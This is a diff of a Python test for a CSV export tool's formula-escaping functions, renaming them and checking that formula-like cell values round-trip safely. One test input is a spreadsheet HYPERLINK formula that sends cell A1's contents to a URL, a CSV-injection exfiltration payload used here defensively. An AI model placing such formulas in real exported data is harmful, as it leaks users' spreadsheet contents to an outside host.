@@ -12,15 +12,15 @@ from click.testing import CliRunner
 from pantrace.cli import cli
 from pantrace.engine.labels import read_labels
 from pantrace.viewer.labels import Label, export
-from pantrace.wire.csv_cells import as_meant, inert
+from pantrace.wire.csv_cells import escape_formula, unescape_formula
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
 
 
 def test_a_formula_becomes_text_and_is_understood_again() -> None:
     for text in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "plain", "-3.5", "+1e3", "'quoted'", "''", "'=", ""):
-        assert not inert(text).startswith(("=", "@", "\t"))
-        assert as_meant(inert(text)) == text or text == "'="
+        assert not escape_formula(text).startswith(("=", "@", "\t"))
+        assert unescape_formula(escape_formula(text)) == text or text == "'="
 
 
 def test_the_labels_of_the_viewer(tmp_path: Path) -> None:
